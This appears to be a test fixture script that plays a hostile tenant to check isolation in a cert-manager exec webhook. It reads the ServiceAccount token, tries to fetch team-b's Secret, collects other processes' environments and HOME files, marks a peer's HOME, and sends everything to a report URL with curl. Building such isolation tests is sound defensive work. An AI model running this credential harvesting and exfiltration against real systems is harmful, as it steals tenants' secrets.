#!/bin/sh
# The node test's spy (scenario 9): a tenant's program that tries to read what
# a run must not see, sends what it got to the test ($SPY_REPORT_URL), then
# presents the record as nsupdate.sh does. With $SPY_PEER set it first waits
# (at most 30 s) for a run of that script to be in flight, and marks its HOME.
#
# Report lines, tab-separated; what was read is base64 (NULs, newlines):
#   context <dnsName> <namespace>
#   self    <own environ>
#   token   <read|error> <the ServiceAccount token, or the error>
#   api     <the API server's answer to a GET of team-b's Secret with that token>
#   proc    <pid> <cmdline> <read|error> <environ, or the error>   (not this run's)
#   home    <pid> <read|error> <files of that process's HOME and their content>
#   mark    <pid> <written|error>                                  (SPY_PEER's HOME)
#   channel <curl's exit status> <its output>                      (the runner's socket)
#   socketdir <ls -la of the socket's directory>
set -u
nsupdate=/usr/local/share/cert-manager-webhook-exec/examples/nsupdate.sh
[ "$1" = present ] || exec "$nsupdate" "$@"

b64() { printf %s "$1" | base64 -w0; }
own="CERT_MANAGER_RUN_ID=$CERT_MANAGER_RUN_ID"
peer=${SPY_PEER:-}

is_peer() { [ -n "$peer" ] && case $1 in *"$peer"*) true ;; *) false ;; esac; }

if [ -n "$peer" ]; then
	i=0
	while [ $i -lt 60 ]; do
		found=
		for d in /proc/[0-9]*; do
			cmd=$(tr '\0' ' ' <"$d/cmdline" 2>/dev/null) || continue
			if is_peer "$cmd"; then found=1; fi
		done
		[ -n "$found" ] && break
		sleep 0.5
		i=$((i + 1))
	done
fi

report=$(mktemp)
{
	printf 'context\t%s\t%s\n' "${CERT_MANAGER_DNS_NAME:-}" "${CERT_MANAGER_RESOURCE_NAMESPACE:-}"
	printf 'self\t%s\n' "$(b64 "$(tr '\0' '\n' </proc/$$/environ)")"

	tokenfile=/var/run/secrets/kubernetes.io/serviceaccount/token
	if token=$(cat 2>&1 "$tokenfile"); then
		printf 'token\tread\t%s\n' "$(b64 "$token")"
		printf 'api\t%s\n' "$(b64 "$(curl -sS -k --max-time 5 -H "Authorization: Bearer $token" \
			"$SPY_API_SERVER/api/v1/namespaces/team-b/secrets/tsig" 2>&1)")"
	else
		printf 'token\terror\t%s\n' "$(b64 "$token")"
	fi

	for d in /proc/[0-9]*; do
		pid=${d#/proc/}
		[ "$pid" = $$ ] && continue
		cmd=$(tr '\0' ' ' <"$d/cmdline" 2>/dev/null) || continue
		[ -n "$cmd" ] || continue
		if environ=$(tr 2>&1 '\0' '\n' <"$d/environ"); then status=read; else status=error; fi
		case $environ in *"$own"*) continue ;; esac
		printf 'proc\t%s\t%s\t%s\t%s\n' "$pid" "$(b64 "$cmd")" "$status" "$(b64 "$environ")"
		[ $status = read ] || continue
		home=$(printf '%s\n' "$environ" | sed -n 's/^HOME=//p')
		[ -n "$home" ] || continue
		if files=$(cd 2>&1 "$home" && for f in * .[!.]*; do
			if [ -f "$f" ]; then printf '%s: %s\n' "$f" "$(cat "$f")"; fi
		done); then status=read; else status=error; fi
		printf 'home\t%s\t%s\t%s\n' "$pid" "$status" "$(b64 "$files")"
		if is_peer "$cmd"; then
			if : 2>/dev/null >"$home/spy-was-here"; then status=written; else status=error; fi
			printf 'mark\t%s\t%s\n' "$pid" "$status"
		fi
	done

	out=$(curl -sS --max-time 5 --unix-socket /run/cert-manager-webhook-exec/runner.sock http://runner/ 2>&1)
	printf 'channel\t%s\t%s\n' $? "$(b64 "$out")"
	printf 'socketdir\t%s\n' "$(b64 "$(ls -la /run/cert-manager-webhook-exec 2>&1)")"
} >"$report"
curl -sS --max-time 10 --data-binary @"$report" "$SPY_REPORT_URL" >/dev/null || echo "spy: the report did not reach the test" >&2
exec "$nsupdate" "$@"
